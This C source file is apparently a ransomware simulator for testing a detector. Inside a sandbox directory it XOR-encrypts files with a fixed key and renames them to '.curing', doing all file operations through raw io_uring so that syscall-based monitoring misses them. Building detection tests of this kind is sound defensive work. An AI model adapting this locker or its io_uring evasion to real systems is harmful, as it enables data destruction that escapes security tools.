// SPDX-License-Identifier: Apache-2.0
// A safe locker that works through io_uring: opens, writes and renames are submitted, no file system call is made for them.
//   uring DIR PER_SECOND        DIR must be a sandbox made by locker.py
// It uses raw system calls, so that it needs no library. gcc -O2 -o uring uring.c
#define _GNU_SOURCE
#include <fcntl.h>
#include <ftw.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int ring;
static struct io_uring_params params;
static char *submission, *completion;
static struct io_uring_sqe *entries;
static double delay;
static char *paths[20000];
static int count;

static int submit(struct io_uring_sqe *wanted)
{
    unsigned *tail = (unsigned *)(submission + params.sq_off.tail);
    unsigned mask = *(unsigned *)(submission + params.sq_off.ring_mask);
    unsigned *array = (unsigned *)(submission + params.sq_off.array);
    unsigned at = *tail & mask;
    unsigned *head = (unsigned *)(completion + params.cq_off.head);
    struct io_uring_cqe *done = (struct io_uring_cqe *)(completion + params.cq_off.cqes);
    int result;

    entries[at] = *wanted;
    array[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -1;
    result = done[*head & *(unsigned *)(completion + params.cq_off.ring_mask)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

static uint64_t state = 0x9E3779B97F4A7C15ull; /* fixed key */

static void keystream(char *data, long length)
{
    for (long i = 0; i < length; i++) {
        state ^= state << 13, state ^= state >> 7, state ^= state << 17;
        data[i] ^= (char)(state >> 24);
    }
}

static void attack(const char *path)
{
    struct io_uring_sqe sqe = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path, .open_flags = O_RDWR };
    char locked[4200];
    struct timespec now;
    struct stat about;
    int file = submit(&sqe);
    char *data;

    if (file < 0 || fstat(file, &about))
        return;
    data = malloc(about.st_size + 1);
    sqe = (struct io_uring_sqe){ .opcode = IORING_OP_READ, .fd = file, .addr = (uintptr_t)data, .len = about.st_size };
    submit(&sqe);
    keystream(data, about.st_size);
    sqe.opcode = IORING_OP_WRITE;
    submit(&sqe);
    snprintf(locked, sizeof(locked), "%s.curing", path);
    sqe = (struct io_uring_sqe){ .opcode = IORING_OP_RENAMEAT, .fd = AT_FDCWD, .addr = (uintptr_t)path,
                                 .addr2 = (uintptr_t)locked, .len = AT_FDCWD };
    submit(&sqe);
    close(file);
    free(data);
    clock_gettime(CLOCK_BOOTTIME, &now);
    printf("LOST %lld%09ld %s\n", (long long)now.tv_sec, now.tv_nsec, path);
    fflush(stdout);
    usleep(delay * 1e6);
}

static int visit(const char *path, const struct stat *about, int kind, struct FTW *where)
{
    (void)about, (void)where;
    if (kind == FTW_F && count < 20000)
        paths[count++] = strdup(path);
    return 0;
}

int main(int argc, char **argv)
{
    char path[4200];

    snprintf(path, sizeof(path), "%s/.sealwatch-sandbox", argc > 1 ? argv[1] : "");
    if (access(path, F_OK)) {
        fprintf(stderr, "no sandbox of ours: make one with locker.py make DIR\n");
        return 1;
    }
    delay = argc > 2 ? 1 / atof(argv[2]) : 0;
    ring = syscall(SYS_io_uring_setup, 8, &params);
    if (ring < 0) {
        perror("io_uring_setup");
        return 3;
    }
    submission = mmap(NULL, params.sq_off.array + params.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    completion = mmap(NULL, params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
                      MAP_SHARED, ring, IORING_OFF_CQ_RING);
    entries = mmap(NULL, params.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    snprintf(path, sizeof(path), "%s/data", argv[1]);
    nftw(path, visit, 20, FTW_PHYS);
    for (int i = 0; i < count; i++)
        attack(paths[i]);
    return 0;
}
